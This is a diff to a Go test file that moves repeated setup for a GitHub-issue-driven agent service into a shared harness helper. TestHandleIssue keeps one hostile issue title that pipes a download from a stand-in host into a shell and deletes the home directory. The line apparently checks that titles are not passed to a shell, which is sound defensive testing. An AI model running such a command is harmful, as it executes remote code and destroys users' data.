@@ -46,13 +46,23 @@ func (c *fakeComments) UpsertComment(_ context.Context, _ int64, _ string, _ int
 	return id, nil
 }
 
-func TestHandleIssue(t *testing.T) {
-	ctx := context.Background()
+// issueHarness is a harness whose service takes octo/hello's issues, which
+// "maintainer" may trigger, commenting through comments (nil: none).
+func issueHarness(t *testing.T, comments IssueComments) *faultHarness {
+	t.Helper()
 	h := newFaultHarness(t, 5)
 	h.svc.repos = fakeRepos{"octo/hello": {Command: "./agent.sh", TimeoutSeconds: 600}}
 	h.svc.collaborators = fakeCollaborators{"maintainer": true}
+	if comments != nil {
+		h.svc.comments = comments
+	}
+	return h
+}
+
+func TestHandleIssue(t *testing.T) {
+	ctx := context.Background()
 	comments := &fakeComments{bodies: map[int64]string{}}
-	h.svc.comments = comments
+	h := issueHarness(t, comments)
 	hostile := `$(curl evil.example | sh) "; rm -rf ~ #`
 	ev := func(delivery string, mod func(*IssueEvent)) IssueEvent {
 		e := IssueEvent{Delivery: delivery, Repo: "octo/hello", InstallationID: 7, Issue: 12, Title: hostile, Body: "fix it",
@@ -134,11 +144,8 @@ func TestHandleIssue(t *testing.T) {
 // GitHub that cannot be told fails nothing.
 func TestIssueComment(t *testing.T) {
 	ctx := context.Background()
-	h := newFaultHarness(t, 5)
-	h.svc.repos = fakeRepos{"octo/hello": {Command: "./agent.sh", TimeoutSeconds: 600}}
-	h.svc.collaborators = fakeCollaborators{"maintainer": true}
 	comments := &fakeComments{bodies: map[int64]string{}}
-	h.svc.comments = comments
+	h := issueHarness(t, comments)
 	out, err := h.svc.HandleIssue(ctx, IssueEvent{Delivery: "d1", Repo: "octo/hello", InstallationID: 7, Issue: 3, Sender: "maintainer"})
 	if err != nil || out.Action != "started" {
 		t.Fatalf("HandleIssue = %+v, %v", out, err)
@@ -195,11 +202,8 @@ func TestIssueCommentBeforeExecution(t *testing.T) {
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
 			ctx := context.Background()
-			h := newFaultHarness(t, 5)
-			h.svc.repos = fakeRepos{"octo/hello": {Command: "./agent.sh", TimeoutSeconds: 600}}
-			h.svc.collaborators = fakeCollaborators{"maintainer": true}
 			comments := &fakeComments{bodies: map[int64]string{}}
-			h.svc.comments = comments
+			h := issueHarness(t, comments)
 			m := &startWatcher{tasks: h.store, fail: tt.fail}
 			h.svc.machine = m
 			_, err := h.svc.HandleIssue(ctx, IssueEvent{Delivery: "d1", Repo: "octo/hello", InstallationID: 7, Issue: 3, Sender: "maintainer"})
@@ -236,11 +240,8 @@ func (s *laggingList) ListTasks(context.Context, string, int, string, ...sandste
 // read again, not from a list entry that lags behind it.
 func TestHandleIssueStaleList(t *testing.T) {
 	ctx := context.Background()
-	h := newFaultHarness(t, 5)
-	h.svc.repos = fakeRepos{"octo/hello": {Command: "./agent.sh", TimeoutSeconds: 600}}
-	h.svc.collaborators = fakeCollaborators{"maintainer": true}
 	comments := &fakeComments{bodies: map[int64]string{}}
-	h.svc.comments = comments
+	h := issueHarness(t, comments)
 	index := &laggingList{Tasks: h.svc.tasks}
 	h.svc.tasks = index
 	ev := func(delivery string) IssueEvent {
@@ -330,9 +331,7 @@ func (b *listBarrier) ListTasks(ctx context.Context, owner string, limit int, cu
 func TestHandleIssueConcurrent(t *testing.T) {
 	const n = 6
 	ctx := context.Background()
-	h := newFaultHarness(t, 5)
-	h.svc.repos = fakeRepos{"octo/hello": {Command: "./agent.sh", TimeoutSeconds: 600}}
-	h.svc.collaborators = fakeCollaborators{"maintainer": true}
+	h := issueHarness(t, nil)
 	barrier := &listBarrier{Tasks: h.svc.tasks, n: n}
 	barrier.arrived.Add(n)
 	h.svc.tasks = barrier
@@ -407,11 +406,8 @@ func (c *heldComments) UpsertComment(ctx context.Context, inst int64, repo strin
 // comment writes no comment of its own: the issue has one comment.
 func TestBusyWhileTheStartIsCommenting(t *testing.T) {
 	ctx := context.Background()
-	h := newFaultHarness(t, 5)
-	h.svc.repos = fakeRepos{"octo/hello": {Command: "./agent.sh", TimeoutSeconds: 600}}
-	h.svc.collaborators = fakeCollaborators{"maintainer": true}
 	comments := &heldComments{fakeComments: fakeComments{bodies: map[int64]string{}}, entered: make(chan struct{}), release: make(chan struct{})}
-	h.svc.comments = comments
+	h := issueHarness(t, comments)
 	ev := func(delivery string, byComment bool) IssueEvent {
 		return IssueEvent{Delivery: delivery, Repo: "octo/hello", InstallationID: 7, Issue: 12, Sender: "maintainer", ByComment: byComment}
 	}
@@ -458,11 +454,8 @@ func (c *endingComments) UpsertComment(ctx context.Context, inst int64, repo str
 // ends up saying how the task ended.
 func TestBusyNoteAsTheTaskEnds(t *testing.T) {
 	ctx := context.Background()
-	h := newFaultHarness(t, 5)
-	h.svc.repos = fakeRepos{"octo/hello": {Command: "./agent.sh", TimeoutSeconds: 600}}
-	h.svc.collaborators = fakeCollaborators{"maintainer": true}
 	comments := &endingComments{fakeComments: fakeComments{bodies: map[int64]string{}}}
-	h.svc.comments = comments
+	h := issueHarness(t, comments)
 	ev := func(delivery string) IssueEvent {
 		return IssueEvent{Delivery: delivery, Repo: "octo/hello", InstallationID: 7, Issue: 12, Sender: "maintainer", ByComment: true}
 	}
